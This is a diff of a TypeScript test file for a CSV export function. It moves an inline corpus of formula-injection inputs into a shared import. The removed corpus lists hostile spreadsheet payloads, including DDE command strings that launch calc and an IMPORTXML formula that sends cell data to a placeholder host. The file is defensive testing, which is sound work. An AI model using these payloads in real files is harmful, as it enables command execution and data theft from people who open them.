@@ -2,32 +2,9 @@ import { parse } from 'csv-parse/sync';
 import fc from 'fast-check';
 import { describe, expect, it, test } from 'vitest';
 import { csvField, csvLine } from '#domain/export/csv.ts';
+import { formulas } from '#tests/support/formulas.ts';
 
-/** What spreadsheets were made to calculate, or to open, by a file that somebody else had written. */
-const corpus = [
-  '=1+1',
-  '+1',
-  '-2',
-  '@SUM(A1)',
-  '\t=1',
-  '\r=1',
-  '\n=1',
-  '\0=1',
-  ' =HYPERLINK("http://x.example")',
-  '＝1',
-  '＋1',
-  '－1',
-  '＠SUM(A1)',
-  "=cmd|' /C calc'!A0",
-  '=IMPORTXML(CONCAT("http://x.example/?",A1),"//a")',
-  '-2+3+cmd|" /C calc"!A0',
-  '\ttext',
-  '\rtext',
-  '\u00a0=1',
-  '\u200e=1'.slice(1),
-];
-
-test.each(corpus)('%j is no formula in a spreadsheet', (text) => {
+test.each(formulas)('%j is no formula in a spreadsheet', (text) => {
   expect(csvField(text).replace(/^"/, '')).toMatch(/^'/);
 });
 
